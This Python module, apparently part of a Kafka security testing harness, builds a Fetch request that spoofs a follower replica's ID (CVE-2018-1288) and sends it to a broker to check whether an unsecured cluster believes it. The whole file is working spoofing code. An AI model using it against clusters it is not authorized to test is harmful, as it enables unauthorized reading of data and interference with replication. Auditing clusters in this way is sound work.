"""A Fetch request that claims to be a follower's, which an unsecured cluster believes (CVE-2018-1288)."""

from __future__ import annotations

from contextlib import closing

from harness.clients.conversation import Conversation
from harness.errors import NoAnswer
from harness.orders import SpoofedFetchOrder
from harness.wire.messages.fetch import FetchPartition, FetchRequest, FetchResponse, FetchTopic

_NEWEST = 12
"""The first version with the last fetched epoch, and one of the last that name the replica in plain sight."""
_MAX_BYTES = 1 << 20


def spoof_fetch(address: tuple[str, int], order: SpoofedFetchOrder) -> str | None:
    """Send the request to the broker at ``address`` and wait for the answer.

    Returns:
        What went wrong: an error code of the answer, or why there is none; None: the broker believed it.
    """
    with closing(Conversation(order.to, address, order.timeout_s)) as conversation:
        try:
            answer = conversation.ask(spoofed_request(order), FetchResponse, _NEWEST)
        except NoAnswer as problem:
            return str(problem)
    codes = [answer.error_code, *(part.error_code for topic in answer.responses for part in topic.partitions)]
    return next((f"error code {code}" for code in codes if code), None)


def spoofed_request(order: SpoofedFetchOrder) -> FetchRequest:
    """What claims to be the follower's."""
    topics: dict[str, list[FetchPartition]] = {}
    for name in order.partitions:
        topics.setdefault(name.topic, []).append(
            FetchPartition(
                partition=name.partition,
                current_leader_epoch=order.leader_epoch,
                fetch_offset=order.offset,
                last_fetched_epoch=order.last_fetched_epoch,
                partition_max_bytes=_MAX_BYTES,
            )
        )
    return FetchRequest(
        replica_id=order.replica,
        topics=[FetchTopic(topic=topic, partitions=partitions) for topic, partitions in topics.items()],
    )
